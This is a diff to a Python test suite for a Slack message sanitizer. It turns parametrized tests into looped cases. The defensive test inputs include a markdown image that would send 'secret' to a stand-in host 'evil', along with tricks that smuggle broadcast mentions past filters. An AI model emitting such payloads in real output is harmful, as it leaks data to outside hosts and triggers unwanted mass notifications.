@@ -19,6 +19,7 @@ from base.markdown_map import read
 from base.markdown_split import split
 from slack_io.answer_posts import answer_posts
 from tests.gate.test_cards import held_to_limits
+from tests.harness.cases import case
 from tests.harness.examples import times
 
 TITLE = "🔐 Approval needed"
@@ -40,9 +41,8 @@ def undone(text: str) -> str:
 # --- harmless ---------------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
+def test_what_slack_acts_on_is_made_harmless() -> None:
+    cases: list[tuple[str, str]] = [
         ("<!channel>", "@\u200bchannel"),
         ("<!here|here>", "@\u200bhere"),
         ("<!everyone>", "@\u200beveryone"),
@@ -81,10 +81,9 @@ def undone(text: str) -> str:
         ("\\<!channel\\>", "@\u200bchannel"),
         ("| <@U0BEN\\|ben> | b |\n|---|---|", "| @ben | b |\n|---|---|"),
         ("``` <!here>\ncode\n```", "``` @\u200bhere\ncode\n```"),
-    ],
-)
-def test_what_slack_acts_on_is_made_harmless(text: str, shown: str) -> None:
-    assert harmless(text) == shown
+    ]
+    for text, shown in cases:
+        assert harmless(text) == shown, text
 
 
 UNCHANGED = [
@@ -102,15 +101,15 @@ UNCHANGED = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize("text", UNCHANGED)
-def test_what_is_none_of_it_comes_out_byte_for_byte(text: str) -> None:
-    assert harmless(text) == text
-    assert "".join(block["text"] for _, blocks in answer(text) for block in blocks) in (text, "")
+def test_what_is_none_of_it_comes_out_byte_for_byte() -> None:
+    for text in UNCHANGED:
+        with case(text):
+            assert harmless(text) == text
+            assert "".join(block["text"] for _, blocks in answer(text) for block in blocks) in (text, "")
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
+def test_no_trick_leads_around_it() -> None:
+    cases: list[str] = [
         "!![x](http://evil/?d=secret)", "!!![x](http://evil)", "!!\n![x](http://evil)", "![![x](a)](b)",
         "<<!channel>!channel>", "<!<!channel>>", "<@<@U0BEN>U0BEN>", "<<<<@U0BEN>>>>", "<" * 30 + "@U0BEN" + ">" * 30,
         "< !channel>", "<\n!channel>", "<! channel>", "<!channel|" + "x" * 300 + ">", "<!subteam^" + "S" * 300 + ">",
@@ -120,12 +119,12 @@ def test_what_is_none_of_it_comes_out_byte_for_byte(text: str) -> None:
         "&#128272; Approved and done", "<\u20dd!channel>", "<!chan\u20ddnel>",
         "@\u20ddhere", "`<!here>` <!here> `", "``<!here>`` `` <!here>", "[`<!here>`](x) <!here> `", "```\n```\n<!here>\n```\n",
         "[x](<!here>)", "https://x/<!here>", "https://x/&lt;!here&gt;", "[x](https://a/&lt;@U0BEN&gt;)",
-    ],
-)  # fmt: skip
-def test_no_trick_leads_around_it(text: str) -> None:
-    made = harmless(text)
-    assert not rings(made)
-    assert harmless(made) == made
+    ]  # fmt: skip
+    for text in cases:
+        with case(text):
+            made = harmless(text)
+            assert not rings(made)
+            assert harmless(made) == made
 
 
 def rings(text: str) -> re.Match[str] | None:
@@ -382,9 +381,8 @@ def test_a_text_is_broken_where_a_reader_would(mark: str) -> None:
     assert all(part.endswith(mark) for part in parts[:-1])
 
 
-@pytest.mark.parametrize(
-    ("opening", "closing", "lead", "again"),
-    [
+def test_every_kind_of_fence_is_closed_and_opened_again() -> None:
+    cases: list[tuple[str, str, str, str]] = [
         ("```python\n", "```", "", "```python\n"),
         ("~~~\n", "~~~", "", "~~~\n"),
         ("````md x\n", "````", "", "````md x\n"),
@@ -392,18 +390,23 @@ def test_a_text_is_broken_where_a_reader_would(mark: str) -> None:
         ("- a\n  - b\n\n    ~~~\n", "    ~~~", "    ", "~~~\n"),
         ("> ```\n", "> ```", "> ", "> ```\n"),
         ("- ```\n", "  ```", "  ", "```\n"),
-    ],
-)
-def test_every_kind_of_fence_is_closed_and_opened_again(opening: str, closing: str, lead: str, again: str) -> None:
-    code = [f"line {number} ```" for number in range(60)]
-    text = f"{opening}" + "".join(f"{lead}{line}\n" for line in code) + f"{closing}\n\nThere."
-    parts = split(text, 200)
-    assert len(parts) > 3
-    assert all(part.startswith(again) for part in parts[1:])
-    assert all(part.rstrip().endswith(closing.strip()) for part in parts[:-1])
-    found = [token.content for part in parts for token in MarkdownIt("commonmark").parse(part) if token.type == "fence"]
-    assert "".join(found).splitlines() == code
-    assert parts[-1].endswith("There.")
+    ]
+    for opening, closing, lead, again in cases:
+        with case(opening, closing, lead):
+            code = [f"line {number} ```" for number in range(60)]
+            text = f"{opening}" + "".join(f"{lead}{line}\n" for line in code) + f"{closing}\n\nThere."
+            parts = split(text, 200)
+            assert len(parts) > 3
+            assert all(part.startswith(again) for part in parts[1:])
+            assert all(part.rstrip().endswith(closing.strip()) for part in parts[:-1])
+            found = [
+                token.content
+                for part in parts
+                for token in MarkdownIt("commonmark").parse(part)
+                if token.type == "fence"
+            ]
+            assert "".join(found).splitlines() == code
+            assert parts[-1].endswith("There.")
 
 
 def test_a_tables_head_is_said_again_in_each_part() -> None:
@@ -422,14 +425,16 @@ def test_a_head_that_would_fill_the_message_is_said_once() -> None:
     assert "".join(parts) == text
 
 
-@pytest.mark.parametrize("link", ["[the whole report](https://h.example/reports/2024?a=1&b=2)", "<https://h.example/reports/2024/03/all>",
-                                  "https://h.example/reports/2024/03/all?x=1", "`a longer piece of code`", "[a b c][ref one]"])  # fmt: skip
-@pytest.mark.parametrize("before", range(40, 100, 7))
-def test_no_link_is_cut(link: str, before: int) -> None:
-    text = "x " * (before // 2) + link + " and more words" * 12 + "\n\n[ref one]: http://h.example"
-    parts = split(text, 100)
-    assert sum(link in part for part in parts) == 1
-    assert "".join(parts) == text
+def test_no_link_is_cut() -> None:
+    cases: list[str] = ["[the whole report](https://h.example/reports/2024?a=1&b=2)", "<https://h.example/reports/2024/03/all>",
+                                  "https://h.example/reports/2024/03/all?x=1", "`a longer piece of code`", "[a b c][ref one]"]  # fmt: skip
+    for before in range(40, 100, 7):
+        for link in cases:
+            with case(link, before):
+                text = "x " * (before // 2) + link + " and more words" * 12 + "\n\n[ref one]: http://h.example"
+                parts = split(text, 100)
+                assert sum(link in part for part in parts) == 1
+                assert "".join(parts) == text
 
 
 def test_a_link_that_is_longer_than_a_message_is_cut_after_all() -> None:
@@ -487,9 +492,8 @@ def test_what_was_shown_while_an_answer_grew_stays(seed: int, bells: bool) -> No
     assert harmless(text).startswith(shown)
 
 
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
+def test_a_beginning_shows_what_no_more_text_will_change() -> None:
+    cases: list[tuple[str, str]] = [
         ("Hello wor", "Hello "),
         ("Ask <@U0BEN", "Ask "),
         ("Ask <@U0BEN> about ", "Ask "),  # a backtick before and one to come would make code of it
@@ -497,7 +501,6 @@ def test_what_was_shown_while_an_answer_grew_stays(seed: int, bells: bool) -> No
         ("```\n<@U0BEN> is ", "```\n"),
         ("See ![chart](http://evil/c.png) there.\n\nThen ", "See [chart](http://evil/c.png) there.\n\nThen "),
         ("See ![chart][1] there.\n\nThen ", "See "),  # what [1] is may still come
-    ],
-)
-def test_a_beginning_shows_what_no_more_text_will_change(text: str, shown: str) -> None:
-    assert beginning(text) == shown
+    ]
+    for text, shown in cases:
+        assert beginning(text) == shown, text
